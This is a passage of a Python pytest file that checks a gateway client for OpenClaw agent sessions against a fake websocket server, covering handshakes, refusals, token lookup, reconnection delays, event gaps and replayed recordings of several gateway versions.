"""The gateway: real connections to a server that says what real gateways said, and what no gateway should say."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import math
import os
import socket
import ssl
import threading
import time
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from gateway_server import (  # fmt: skip
    TOKEN,
    VERSIONS,
    FakeGateway,
    agent_event,
    encode,
    end,
    recorded,
    row,
    start,
    tick,
    tool,
)
from handmade import HandmadeHome, header, user
from served import PATIENCE_S, Served, process_env, wait_until
from test_api import certificate  # noqa: F401 - a fixture

import clawmeter
from clawmeter import (
    CallRefusedError,
    GatewayClient,
    GatewayError,
    GatewayState,
    OpenClawConfig,
    Settings,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

MAIN = "agent:main:main"
Json = dict[str, Any]


class Listener:
    """A client with its state, and what it told open pages. Its waits are short."""

    def __init__(self, gateway: FakeGateway, state_dir: Path, **settings: Any) -> None:
        self.told: list[tuple[str, Json]] = []
        self.is_watched = True
        self.config = OpenClawConfig(gateway_token=TOKEN, gateway_port=gateway.port)
        self.state = GatewayState()
        self.client = GatewayClient(
            Settings(state_dir=state_dir, **settings), self.state, read_config=lambda: self.config, signature=lambda: id(self.config),
            publish=lambda kind, data: self.told.append((kind, dict(data))), is_watched=lambda: self.is_watched,
        )  # fmt: skip
        self.client.FIRST_DELAY_S, self.client.LONGEST_DELAY_S, self.client.REFUSED_DELAY_S = 0.02, 0.1, 0.05  # type: ignore[misc]  # fmt: skip
        self.client.RESTART_DELAY_S, self.client.CONFIG_S, self.client.RESYNC_S = 0.01, 0.02, 0.05  # type: ignore[misc]  # fmt: skip
        self.client.LEAST_TICK_S = 0.05  # type: ignore[misc]

    def run(self, key: str = MAIN) -> Json | None:
        """What the API shows of a session."""
        return next((view.run for view in self.state.live() if view.key == key), None)

    def doing(self, key: str = MAIN) -> str | None:
        found = self.state.sessions.get(key)
        return found.describe()["doing"] if found else None

    def wait_for(self, **facts: Any) -> None:
        """Until the description of the gateway says so."""
        wait_until(lambda: facts.items() <= self.state.describe().items(), f"{facts}, but {self.state.describe()}")  # fmt: skip

    def heard(self, count: int) -> None:
        wait_until(lambda: self.state.counts["received"] >= count, f"message {count}")

    def of(self, kind: str) -> list[Json]:
        return [data for k, data in self.told if k == kind]


@pytest.fixture
def gateway() -> Iterator[FakeGateway]:
    made = FakeGateway()
    yield made
    made.stop()


@pytest.fixture
def listen(gateway: FakeGateway, tmp_path: Path) -> Iterator[Callable[..., Listener]]:
    """listen(): a client of `gateway` that runs; listen(start=False): one that does not yet."""
    made: list[Listener] = []

    def make(to: FakeGateway | None = None, *, start: bool = True, **settings: Any) -> Listener:
        made.append(Listener(to or gateway, tmp_path, **settings))
        if start:
            made[-1].client.start()
        return made[-1]

    yield make
    for listener in made:
        listener.client.stop()


def now_ms() -> int:
    return int(time.time() * 1000)


# --- asking ------------------------------------------------------------------------------------------


def test_an_answer_comes_back_to_whoever_asked(gateway: FakeGateway, listen: Any) -> None:
    gateway.answers |= {f"method.{n}": {"n": n} for n in range(20)}
    listener = listen()
    listener.wait_for(status="connected")
    with ThreadPoolExecutor(20) as pool:
        answers = list(pool.map(lambda n: listener.client.ask(f"method.{n}", {"limit": n}), range(20)))  # fmt: skip
    assert answers == [{"n": n} for n in range(20)]
    asked = {r["method"]: r["params"] for r in gateway.client().requests}
    assert asked["method.7"] == {"limit": 7}
    assert len(gateway.connections) == 1


def test_a_question_does_not_stand_in_for_the_lists_own(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    listener.wait_for(capabilities=["sessions.list", "sessions.subscribe"])
    gateway.answers["sessions.list"] = {"sessions": [row(status="running", hasActiveRun=True)]}
    assert listener.client.ask("sessions.list")["sessions"]
    assert listener.state.sessions == {}  # the asker's, not the state's


def test_a_refused_question_says_so_in_the_words_of_the_gateway(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    gateway.answers["cron.list"] = {"error": {"code": "FORBIDDEN", "message": "missing scope: operator.read"}}  # fmt: skip
    listener = listen()
    listener.wait_for(status="connected")
    with pytest.raises(CallRefusedError, match="cron.list: missing scope: operator.read") as refused:  # fmt: skip
        listener.client.ask("cron.list")
    assert (refused.value.code, refused.value.is_unknown) == ("FORBIDDEN", False)
    with pytest.raises(CallRefusedError) as unknown:
        listener.client.ask("no.such")
    assert unknown.value.is_unknown
    assert listener.state.describe()["last_error"] is None


def test_a_question_without_an_answer_ends_in_its_time(gateway: FakeGateway, listen: Any) -> None:
    gateway.answers["logs.tail"] = "silence"
    listener = listen()
    with pytest.raises(GatewayError, match="not connected|no gateway|connecting"):
        Listener(gateway, Path()).client.ask("logs.tail")
    listener.wait_for(status="connected")
    with pytest.raises(GatewayError, match="logs.tail: no answer in 0.05 s"):
        listener.client.ask("logs.tail", timeout_s=0.05)
    gateway.answers["logs.tail"] = {"lines": []}
    assert listener.client.ask("logs.tail") == {"lines": []}


def test_whoever_waits_is_told_when_the_connection_ends(gateway: FakeGateway, listen: Any) -> None:
    gateway.answers["logs.tail"] = "silence"
    listener = listen()
    listener.wait_for(status="connected")
    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(listener.client.ask, "logs.tail", None, PATIENCE_S)
        wait_until(lambda: gateway.client().asked("logs.tail"), "the question")
        gateway.client().drop()
        with pytest.raises(GatewayError, match="connection to the gateway ended"):
            waiting.result(PATIENCE_S)


def test_a_question_that_cannot_be_sent_is_answered_at_once(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen()
    listener.wait_for(status="connected")
    with pytest.raises(GatewayError, match="logs.tail could not be sent"):
        listener.client.ask("logs.tail", {"no": object()}, PATIENCE_S)
    gateway.client(2)
    listener.wait_for(status="connected")  # the thread goes on


class Impatient(Future[Any]):
    """An answer whose asker gives up at the very moment at which somebody looks whether it is there."""

    def done(self) -> bool:
        was = super().done()
        self.cancel()
        return was


def test_an_asker_that_gives_up_when_the_connection_ends_ends_nothing_else(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    client = listen(start=False).client
    given_up: Future[Any] = Future()
    given_up.cancel()
    waiting: Future[Any] = Future()
    for answer in (Impatient(), given_up, waiting):
        client._questions.put((clawmeter.Asked("logs.tail", math.inf, answer), {}))
    client._close()
    assert "connection to the gateway ended" in str(waiting.exception(0))


# --- getting in ----------------------------------------------------------------------------------


def test_handshake_asks_for_reading_only_and_is_no_web_page(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen()
    connection = gateway.client()
    assert "origin" not in connection.headers
    params = connection.requests[0]["params"]
    assert (params["minProtocol"], params["maxProtocol"]) == (3, 4)
    assert (params["client"]["id"], params["client"]["mode"]) == ("gateway-client", "backend")
    assert (params["role"], params["scopes"]) == ("operator", ["operator.read"])
    assert params["auth"] == {"token": TOKEN}
    assert "device" not in params
    listener.wait_for(status="connected", version="2026.9.6", protocol=4, problem=None)
    assert listener.state.describe()["uptime_s"] > 0


def test_it_only_ever_asks_for_the_list_of_sessions(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    connection = gateway.client()
    listener.wait_for(capabilities=["sessions.list", "sessions.subscribe"])
    assert [r["method"] for r in connection.requests] == ["connect", "sessions.subscribe", "sessions.list"]  # fmt: skip


def test_a_method_that_an_older_version_does_not_know_is_missing_and_no_error(listen: Any) -> None:
    older = FakeGateway("2026.2.12")
    del older.answers["sessions.subscribe"]
    listener = listen(older)
    listener.wait_for(missing=["sessions.subscribe"], capabilities=["sessions.list"])
    told = listener.state.describe()
    assert (told["status"], told["last_error"], told["protocol"], told["version"]) == ("connected", None, 3, None)  # fmt: skip
    older.stop()


@pytest.mark.parametrize(
    ("refusal", "status", "words"),
    [
        ({"code": "INVALID_REQUEST", "message": "protocol mismatch", "details": {"code": "PROTOCOL_MISMATCH", "expectedProtocol": 6}}, "incompatible", "speaks protocol 6, this Clawmeter 3 to 4"),
        ({"code": "INVALID_REQUEST", "message": "protocol mismatch"}, "incompatible", "another one"),
        ({"code": "NOT_PAIRED", "message": "pairing required", "details": {"code": "PAIRING_REQUIRED", "requestId": "r-1"}}, "pairing", "be approved"),
        ({"code": "NOT_PAIRED", "message": "device identity required", "details": {"code": "DEVICE_IDENTITY_REQUIRED"}}, "refused", "device identity"),
        ({"code": "INVALID_REQUEST", "message": "unauthorized: gateway token mismatch (x)"}, "refused", "refuses the token"),
        ({"code": "UNAVAILABLE", "message": "gateway starting", "retryable": True}, "unreachable", "not ready: gateway starting"),
        ({}, "refused", "no reason given"),
    ],
)  # fmt: skip
def test_refusals_say_what_is_wrong(gateway: FakeGateway, listen: Any, refusal: Json, status: str, words: str) -> None:  # fmt: skip
    gateway.refusal = refusal
    if not refusal:
        gateway.answer = lambda _request: [{"ok": False, "error": {}}]  # type: ignore[method-assign]
    listener = listen()
    listener.wait_for(status=status)
    assert words in listener.state.describe()["problem"]
    gateway.refusal = None
    if refusal:
        listener.wait_for(status="connected")


def test_a_token_that_changed_is_read_from_the_config_at_once(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen(start=False)
    listener.client.REFUSED_DELAY_S = listener.client.LONGEST_DELAY_S = 1000.0
    listener.config = OpenClawConfig(gateway_token="old", gateway_port=gateway.port)
    listener.client.start()
    listener.wait_for(status="refused")
    assert "token mismatch" in listener.state.describe()["problem"]
    listener.config = OpenClawConfig(gateway_token=TOKEN, gateway_port=gateway.port)
    listener.wait_for(status="connected")


def test_a_token_of_the_environment_that_is_old_does_not_hide_that_of_the_config(listen: Any) -> None:  # fmt: skip
    listen(gateway_token="of another time").wait_for(status="connected")


def config_of(tmp_path: Path, **gateway: Any) -> OpenClawConfig:
    (tmp_path / "openclaw.json").write_text(json.dumps({"gateway": gateway}))
    return clawmeter.read_config(tmp_path, {})


@pytest.mark.parametrize(
    ("config", "words"),
    [
        ({"auth": {"mode": "password", "password": "hush"}}, "takes no token"),
        ({"auth": {"mode": "trusted-proxy"}}, "takes no token"),
        ({"auth": {"password": "hush"}}, "takes no token"), ({"auth": {"password": "hush", "token": "hush-token"}}, "takes no token"),
        ({"mode": "remote", "remote": {"url": "wss://gw.example", "password": "hush"}}, "takes no token"),
        ({"auth": {"mode": "token", "token": {"source": "env", "id": "HUSH"}}}, "reference to a secret"),
        ({"auth": {"token": "${NOT_SET}"}}, "this variable is not set here"),
        ({}, "has no gateway.auth.token"),
    ],
)  # fmt: skip
def test_what_cannot_be_used_has_a_clear_answer(tmp_path: Path, config: Json, words: str) -> None:
    with pytest.raises(GatewayError, match=words) as error:
        clawmeter.find_endpoint(Settings(state_dir=tmp_path), config_of(tmp_path, **config))
    assert error.value.status == "unusable"
    assert error.value.advice
    assert "hush" not in str(error.value).lower() + error.value.advice.lower()


def test_where_a_gateway_is(tmp_path: Path) -> None:
    def found(config: OpenClawConfig, **settings: Any) -> tuple[str, tuple[str, ...]]:
        endpoint = clawmeter.find_endpoint(Settings(state_dir=tmp_path, **settings), config)
        return endpoint.url, endpoint.tokens

    plain = config_of(tmp_path, port=18801, auth={"token": "a"})
    assert found(plain) == ("ws://127.0.0.1:18801", ("a",))
    assert found(plain, gateway_token="b") == ("ws://127.0.0.1:18801", ("b", "a"))
    assert found(plain, gateway_url="ws://localhost:5") == ("ws://localhost:5", ("a",))
    assert found(config_of(tmp_path, auth={"mode": "none"})) == ("ws://127.0.0.1:18789", ())
    assert found(config_of(tmp_path, tls={"enabled": True}, auth={"token": "a"}))[0] == "wss://127.0.0.1:18789"  # fmt: skip
    tunnel = {"mode": "remote", "remote": {"url": "ws://127.0.0.1:7", "token": "far"}}
    assert found(config_of(tmp_path, **tunnel)) == ("ws://127.0.0.1:7", ("far",))
    far = {"mode": "remote", "remote": {"url": "wss://gateway.example", "token": "far"}}
    assert found(config_of(tmp_path, **far)) == ("wss://gateway.example", ("far",))
    assert [clawmeter.find_endpoint(Settings(state_dir=tmp_path, gateway_url=url), plain).is_remote for url in ("ws://10.0.0.1:1", "ws://[::1]:1", "ws://localhost:1")] == [True, False, False]  # fmt: skip
    secret = config_of(tmp_path, auth={"token": "hush"})
    assert "hush" not in repr(clawmeter.find_endpoint(Settings(state_dir=tmp_path), secret))


@pytest.mark.parametrize("url", ["http://127.0.0.1:1", "127.0.0.1:1", "ws://", "ws://me:secret@127.0.0.1:1", "ws://127.0.0.1:1/?token=secret", "ws://127.0.0.1:99999"])  # fmt: skip
def test_what_is_no_address_of_a_gateway_is_a_wrong_setting(url: str) -> None:
    with pytest.raises(clawmeter.SettingsError, match="gateway_url takes a text"):
        clawmeter.load_settings({"gateway_url": url}, {})


# --- recordings of real gateways -----------------------------------------------------------------

#: What each recorded connection says: session, what it did, the tool. Without repetitions.
EXPECTED = {
    "2026.2.12": """
main waiting; main answering; main done; main waiting; main answering; main done; main waiting; main tool exec; main waiting; main answering; main done; main waiting; main tool read; main waiting; main tool exec; main waiting; main answering; main done; ops:main waiting; ops:main answering; ops:main done
chat1 waiting; chat1 answering; chat1 aborted
""",
    "2026.4.24": """
main None; main waiting; main answering; main done; main waiting; main answering; main done; main waiting; main tool exec; main waiting; main answering; main done; main waiting; main tool read; main waiting; main tool exec
""",
    "2026.6.11": """
main waiting; main answering; main done; main waiting; main answering; main done; main waiting; main tool exec; main waiting; main answering; main done; main waiting; main tool read
chat1 done; chat1 waiting; chat1 answering; chat1 aborted; resetme waiting
""",
    "2026.9.6": """
main waiting; main answering; main done; main waiting; main thinking; main answering; main done; main waiting; main thinking; main tool exec; main waiting; main thinking; main answering; main done
errs failed; errs waiting; errs retrying; errs waiting; errs answering; errs done
chat1 waiting; chat1 answering; chat1 aborted; resetme waiting
side done
""",
}
#: How each session of a recording ended up.
OUTCOMES_226 = {"main": "done", "ops:main": "done", "claude:main": "done", "errs": "failed", "chat1": "aborted", "resetme": "done", "deleteme": "done", "side": "done"}  # fmt: skip


def replay(gateway: FakeGateway, listener: Listener, version: str) -> list[str]:
    """Play a recording, message by message; what each of its connections said, in words."""
    out = []
    heard = 0
    for number, frames in enumerate(recorded(version), 1):
        connection = gateway.client(number)
        heard += 4  # challenge, hello and two answers
        listener.heard(heard)
        del listener.told[:]
        for frame in frames[2:]:
            if frame["type"] == "event":
                connection.say(frame)
                heard += 1
                listener.heard(heard)
                wait_until(lambda: not listener.state._changed, "the change to be told")
        words: list[str] = []
        for told in listener.of("session"):
            key = told["key"].removeprefix("agent:").removeprefix("main:")
            word = f"{key} {told['doing']}{' ' + told['tool'] if told['tool'] else ''}"
            if not words or words[-1] != word:
                words.append(word)
        out.append("; ".join(words))
        if number < len(recorded(version)):
            connection.drop()
            gateway.client(number + 1)
    return out


@pytest.mark.parametrize("version", VERSIONS)
def test_recordings_of_every_version(version: str, listen: Any) -> None:
    gateway = FakeGateway(version)
    listener = listen(gateway, start=False)
    listener.client.FLUSH_S = 0.0
    listener.client.start()
    found = replay(gateway, listener, version)
    if version in EXPECTED:
        assert found == EXPECTED[version].split("\n")[1:-1]
    else:
        ends = {key.removeprefix("agent:").removeprefix("main:"): s.describe()["doing"] for key, s in listener.state.sessions.items()}  # fmt: skip
        assert ends == OUTCOMES_226
        assert "main tool exec" in found[0]
    counts = listener.state.describe()["frames"]
    assert {counts[n] for n in ("malformed", "oversized", "out_of_order", "gaps", "ignored")} == {0}
    assert listener.state.describe()["last_error"] is None or "ended" in listener.state.describe()["last_error"]  # fmt: skip
    assert listener.state.describe()["version"] == (version if version > "2026.4" else None)
    gateway.stop()


@pytest.mark.parametrize("version", ["2026.6.11", "2026.9.6"])
def test_recorded_list_of_sessions(version: str, listen: Any) -> None:
    gateway = FakeGateway(version)
    gateway.answers["sessions.list"] = recorded(version)[-1][-1]["payload"]
    listener = listen(gateway)
    listener.wait_for(capabilities=["active runs", "sessions.list", "sessions.subscribe"])
    (session,) = [s for s in listener.state.sessions.values() if s.key == "agent:main:side"]
    assert session.session_id
    assert (session.provider, session.outcome) == ("mock", "done")
    assert session.context_window == 200_000
    assert listener.state.describe()["live_runs"] == 0
    assert listener.of("session") == []  # what was there before is no news
    gateway.stop()


def test_model_and_context_are_taken_from_rows(gateway: FakeGateway, listen: Any) -> None:
    gateway.answers["sessions.list"] = {"sessions": [row(updatedAt=now_ms(), status="running", hasActiveRun=True, activeRunIds=["r1"], model="large", modelProvider="acme", totalTokens=5_000, totalTokensFresh=True, contextTokens=200_000)]}  # fmt: skip
    listener = listen()
    wait_until(lambda: listener.run() is not None)
    run = listener.run()
    assert run == {
        "running": True, "doing": "waiting", "tool": None, "since_ms": None, "started_ms": None, "runs": 1, "model": "large",
        "provider": "acme", "context_tokens": 5_000, "context_window": 200_000,
    }  # fmt: skip
    # The run of the list is the run of the events.
    gateway.client().say(tool("start", seq=1), end(seq=2))
    wait_until(lambda: listener.doing() == "done")


# --- staying connected ---------------------------------------------------------------------------


def test_a_connection_that_is_lost_is_made_again_and_asks_what_is_the_case(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen()
    gateway.client().say(start(seq=7))
    wait_until(lambda: listener.state.has_runs())
    gateway.answers["sessions.list"] = {"sessions": [row("agent:ops:main", updatedAt=now_ms(), status="running", hasActiveRun=True)]}  # fmt: skip
    gateway.connections[0].drop()
    second = gateway.client(2)
    wait_until(lambda: listener.doing("agent:ops:main") == "waiting")
    assert MAIN not in listener.state.sessions
    second.say(start(seq=1))  # numbers begin anew with a connection
    wait_until(lambda: listener.doing() == "waiting")
    assert listener.state.describe()["frames"]["out_of_order"] == 0
    assert [t["status"] for t in listener.of("gateway")] == ["connected", "unreachable", "connected"]  # fmt: skip


def test_waits_grow_and_differ() -> None:
    def delays(status: str) -> list[float]:
        client = GatewayClient(Settings(state_dir=None), GatewayState(), read_config=OpenClawConfig)  # type: ignore[arg-type]  # fmt: skip
        return [client._delay_after(GatewayError(status, "")) for _ in range(12)]

    for status, first in (("unreachable", 1.0), ("refused", 10.0)):
        for n, delay in enumerate(delays(status)):
            longest = min(60.0, first * 2**n)
            assert longest / 2 <= delay <= longest
    assert delays("unreachable") != delays("unreachable")


def test_the_password_of_the_own_gateway_says_nothing_about_a_remote_one(tmp_path: Path) -> None:
    remote = {"url": "wss://gw.example", "token": "remote-token", "password": "hush"}
    config = config_of(tmp_path, mode="remote", auth={"mode": "password"}, remote=remote)
    assert clawmeter.find_endpoint(Settings(state_dir=tmp_path), config).tokens == ("remote-token",)


@pytest.mark.parametrize("says", ["shutdown", "nothing"])
def test_waits_grow_while_a_gateway_lets_us_in_and_drops_us(gateway: FakeGateway, listen: Any, says: str) -> None:  # fmt: skip
    listener = listen(start=False)
    listener.client.FIRST_DELAY_S, listener.client.RESTART_DELAY_S = 0.02, 0.01
    listener.client.RESTART_S, listener.client.LONGEST_DELAY_S = 0.0, 60.0  # only the tries count
    delays: list[float] = []
    waiting = listener.client._delay_after
    listener.client._delay_after = lambda error: delays.append(waiting(error)) or delays[-1]
    listener.client.start()
    for number in range(1, 6):
        if says == "shutdown":
            gateway.client(number).say({"type": "event", "event": "shutdown", "payload": {"reason": "gateway stopping"}})  # fmt: skip
        gateway.client(number).drop()
    gateway.client(6)
    wait_until(lambda: len(delays) >= 5)
    assert delays[4] > 4 * delays[0]
    assert listener.client._failures == 5
    listener.client.HELD_S = -1.0  # this one has held
    gateway.client(6).drop()
    gateway.client(7)
    assert listener.client._failures == 1


@pytest.mark.parametrize("says", ["shutdown", "1012"])
def test_a_restart_that_is_announced_is_not_waited_out(gateway: FakeGateway, listen: Any, says: str) -> None:  # fmt: skip
    listener = listen(start=False)
    listener.client.FIRST_DELAY_S = listener.client.LONGEST_DELAY_S = 1000.0
    listener.client.start()
    connection = gateway.client()
    if says == "shutdown":
        connection.say({"type": "event", "event": "shutdown", "payload": {"reason": "gateway stopping"}, "seq": 1})  # fmt: skip
        listener.heard(5)
        connection.drop()
    else:
        connection.close(1012, "service restart")
    gateway.client(2)
    listener.wait_for(status="connected")


def test_a_gateway_that_is_away_during_its_restart_is_looked_for_every_moment(listen: Any) -> None:
    gateway = FakeGateway()
    listener = listen(gateway, start=False)
    listener.client.LONGEST_DELAY_S = 1000.0
    listener.client.start()
    gateway.client().close(1012)
    gateway.stop()
    listener.wait_for(status="unreachable")
    wait_until(lambda: listener.client._failures > 12)  # 0.02 s × 2¹² would be 80 s
    again = FakeGateway(port=gateway.port)
    listener.wait_for(status="connected")
    again.stop()


def test_a_gap_is_followed_by_a_look_at_everything(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    connection = gateway.client()
    listener.wait_for(capabilities=["sessions.list", "sessions.subscribe"])
    connection.say(start(seq=1))
    wait_until(lambda: listener.doing() == "waiting")
    # The end of the run and the start of another were lost.
    gateway.answers["sessions.list"] = {"sessions": [row(updatedAt=now_ms()), row("agent:ops:main", updatedAt=now_ms(), status="running", hasActiveRun=True)]}  # fmt: skip
    connection.say(tick(seq=4))
    wait_until(lambda: (listener.doing(), listener.doing("agent:ops:main")) == ("done", "waiting"))
    assert listener.state.describe()["frames"]["gaps"] == 1
    assert connection.asked("sessions.list") == 2


def test_a_gap_where_the_list_says_nothing_about_runs_leaves_nothing_running(listen: Any) -> None:
    gateway = FakeGateway("2026.2.12")
    gateway.answers["sessions.list"] = {"sessions": [{"key": MAIN, "updatedAt": now_ms()}]}
    listener = listen(gateway)
    gateway.client().say(start(seq=1))
    wait_until(lambda: listener.doing() == "waiting")
    gateway.client().say(tick(seq=9))
    wait_until(lambda: not listener.state.has_runs())
    gateway.stop()


def test_many_gaps_are_one_question(gateway: FakeGateway, listen: Any) -> None:
    listener = listen(start=False)
    listener.client.RESYNC_S = 1000.0
    listener.client.start()
    connection = gateway.client()
    listener.wait_for(capabilities=["sessions.list", "sessions.subscribe"])
    connection.say(*(tick(seq=2 * n) for n in range(500)))
    wait_until(lambda: listener.state.describe()["frames"]["gaps"] == 499)
    assert connection.asked("sessions.list") == 1


def test_what_is_old_or_twice_there_changes_nothing(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    connection = gateway.client()
    connection.say(start(seq=5), tool("start", seq=6), end(seq=5), end(seq=3), end(seq=6))
    wait_until(lambda: listener.state.describe()["frames"]["out_of_order"] == 3)
    assert listener.doing() == "tool"
    connection.say(end(seq=7))
    wait_until(lambda: listener.doing() == "done")
    # What is still said about a run that is over comes late, whatever its number.
    connection.say(start(seq=8), tool("start", seq=9), tick(seq=10))
    wait_until(lambda: listener.state.describe()["frames"]["late"] == 2)
    assert listener.doing() == "done"
    # The same run tried again is another matter.
    connection.say(start(seq=11, ts=1795237575000))
    wait_until(lambda: listener.doing() == "waiting")


def test_a_number_that_was_wrong_does_not_silence_the_gateway(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen()
    connection = gateway.client()
    connection.say(tick(seq=1), tick(seq=2**52), *(tick(seq=n) for n in range(2, 60)))
    connection.say(start(seq=60))
    wait_until(lambda: listener.doing() == "waiting")
    wait_until(lambda: connection.asked("sessions.list") >= 2)


def test_a_connection_without_ticks_is_given_up(listen: Any) -> None:
    gateway = FakeGateway()
    gateway.hello = {**gateway.hello, "policy": {"tickIntervalMs": 60}}
    listener = listen(gateway)
    gateway.client(2)
    wait_until(lambda: "no tick" in str(listener.state.describe()["last_error"]))
    gateway.stop()


def test_a_port_that_answers_nothing_is_no_gateway(listen: Any, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    with socket.create_server(("127.0.0.1", 0)) as silent:
        listener = listen(start=False)
        monkeypatch.setattr(clawmeter.GatewayConnection, "CONNECT_S", 0.05)
        listener.config = OpenClawConfig(gateway_token=TOKEN, gateway_port=silent.getsockname()[1])  # fmt: skip
        listener.client.start()
        listener.wait_for(status="unreachable")
        assert "no gateway at" in listener.state.describe()["problem"]


def connect_to(talk: Callable[[socket.socket], None], monkeypatch: pytest.MonkeyPatch) -> str:
    """What comes of connecting to somebody who talks like this; fails when nothing does."""
    monkeypatch.setattr(clawmeter.GatewayConnection, "HANDSHAKE_S", 0.5)
    with socket.create_server(("127.0.0.1", 0)) as server, ThreadPoolExecutor(2) as pool:

        def serve() -> None:
            peer, _ = server.accept()
            with peer, contextlib.suppress(OSError):
                talk(peer)

        pool.submit(serve)
        port = server.getsockname()[1]
        connection = clawmeter.GatewayConnection()
        trying = pool.submit(connection.connect, clawmeter.Endpoint(f"ws://127.0.0.1:{port}", (TOKEN,)))  # fmt: skip
        with pytest.raises(GatewayError) as error:
            trying.result(PATIENCE_S)
        connection.close()
        return str(error.value)


def test_a_refusal_of_any_length_is_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch) -> None:
    sent = 0

    def talk(peer: socket.socket) -> None:
        nonlocal sent
        peer.sendall(b"HTTP/1.1 500 No\r\nContent-Length: 64000000\r\n\r\n")
        for _ in range(64):
            peer.sendall(bytes(1_000_000))
            sent += 1

    assert "not as a gateway" in connect_to(talk, monkeypatch)
    assert sent < 64


def test_a_handshake_that_drips_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    def talk(peer: socket.socket) -> None:
        peer.sendall(b"HTTP/1.1 101 Switching Protocols\r\nX-Long: ")
        until = time.monotonic() + 2 * PATIENCE_S
        while time.monotonic() < until:
            peer.sendall(b"x")
            threading.Event().wait(0.01)

    assert "no gateway at" in connect_to(talk, monkeypatch)


def test_shutting_leaves_the_thread_that_sends_its_encryption(certificate: tuple[Path, Path]) -> None:  # noqa: F811  # fmt: skip
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    gateway = FakeGateway(tls=context)
    connection = clawmeter.GatewayConnection()
    connection.connect(clawmeter.Endpoint(gateway.url, (TOKEN,)))
    connection.shut()
    connection.close()
    peer = gateway.client()
    wait_until(peer.is_over.is_set, "the end")
    assert peer.said_goodbye  # in clear text it would be none
    gateway.stop()


@pytest.mark.parametrize("url", ["ws://..x/", f"ws://{'x' * 64}.example/"])
def test_what_is_no_name_of_a_host_is_no_gateway(url: str) -> None:
    with pytest.raises(GatewayError, match="no gateway at") as error:
        clawmeter.GatewayConnection().connect(clawmeter.Endpoint(url, (TOKEN,)))
    assert error.value.status == "unreachable"


def test_a_config_that_cannot_be_looked_at_ends_nothing(
    gateway: FakeGateway, home: HandmadeHome, meter_factory: Any
) -> None:
    meter = meter_factory(home.path, gateway=True)
    config = {"gateway": {"port": gateway.port, "auth": {"token": TOKEN}}}
    (meter.homes[0].path / "openclaw.json").write_text(json.dumps(config))
    meter.gateway.CONFIG_S = meter.gateway.FIRST_DELAY_S = meter.gateway.LONGEST_DELAY_S = 0.02
    meter.gateway.REFUSED_DELAY_S = 0.02
    meter.gateway.start()
    wait_until(lambda: meter.gateway_state.status == "connected", "the connection")
    meter.env["OPENCLAW_CONFIG_PATH"] = "/" + "x" * 300  # looking at it is an OSError for root, too
    gateway.client().drop()
    wait_until(lambda: meter.gateway_state.status == "unusable", "the word on its config")
    assert meter.gateway_tokens() == []
    assert "cannot read" in clawmeter.read_config(home.path, meter.env).problem
    del meter.env["OPENCLAW_CONFIG_PATH"]
    wait_until(lambda: meter.gateway_state.status == "connected", "the connection")


def test_stopping_does_not_wait_for_anything(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    gateway.client()
    listener.wait_for(status="connected")
    listener.client.stop()
    assert listener.client.thread is not None
    assert not listener.client.thread.is_alive()
    wait_until(gateway.connections[0].is_over.is_set)


def test_a_suspended_gateway_says_so_and_is_asked_when_it_is_back(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    gateway.answers["sessions.list"] = {"error": {"code": "UNAVAILABLE", "message": "unavailable during gateway suspension", "retryable": True}}  # fmt: skip
    listener = listen()
    connection = gateway.client()
    listener.wait_for(capabilities=["sessions.subscribe"], missing=[])
    told = []
    for seq, phase in enumerate(("preparing", "draining", "prepared"), 1):
        connection.say({"type": "event", "event": "gateway.suspension", "payload": {"phase": phase}, "seq": seq})  # fmt: skip
        listener.heard(4 + seq)
        told.append(listener.state.describe()["suspended"])
    assert told == [True, True, True]
    listener.wait_for(text="connected, OpenClaw 2026.9.6, suspended, slow")
    gateway.answers["sessions.list"] = {"sessions": []}
    connection.say({"type": "event", "event": "gateway.suspension", "payload": {"phase": "accepting"}, "seq": 4})  # fmt: skip
    listener.wait_for(suspended=False)


def test_what_a_gateway_would_not_do_yet_is_asked_again(gateway: FakeGateway, listen: Any) -> None:
    not_now = {"error": {"code": "UNAVAILABLE", "message": "unavailable during gateway suspension", "retryable": True}}  # fmt: skip
    gateway.answers |= {"sessions.subscribe": not_now, "sessions.list": not_now}
    listener = listen(start=False)
    listener.client.IDLE_S = 0.05
    listener.client.start()
    listener.heard(4)
    gateway.answers |= {"sessions.subscribe": {"subscribed": True}, "sessions.list": {"sessions": []}}  # fmt: skip
    listener.wait_for(capabilities=["sessions.list", "sessions.subscribe"], missing=[])
    assert len(gateway.connections) == 1


def test_a_run_whose_end_was_missed_does_not_run_for_ever() -> None:
    now = now_ms()
    state = GatewayState()

    def event(frame: Json) -> None:
        state.take_event(clawmeter.Frame("event", frame["event"], frame["payload"]))

    lost, fresh = "agent:main:lost", "agent:main:fresh"
    event(start(sessionKey=lost, runId="r1", ts=now - clawmeter.RUNNING_MS - 1000))
    event(start(sessionKey=fresh, runId="r2", ts=now))
    state.take_list({"sessions": [{"key": MAIN}]})
    assert [key for key, _ in state.running()] == [
        lost,
        fresh,
    ]  # a list that says nothing about runs
    state.take_list({"sessions": [row()]})
    assert [key for key, _ in state.running()] == [fresh]
    event(tool("start", sessionKey=lost, runId="r1", ts=now))  # it had only been silent
    assert {key for key, _ in state.running()} == {lost, fresh}


def test_a_gateway_that_is_suspended_when_we_come_says_so(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
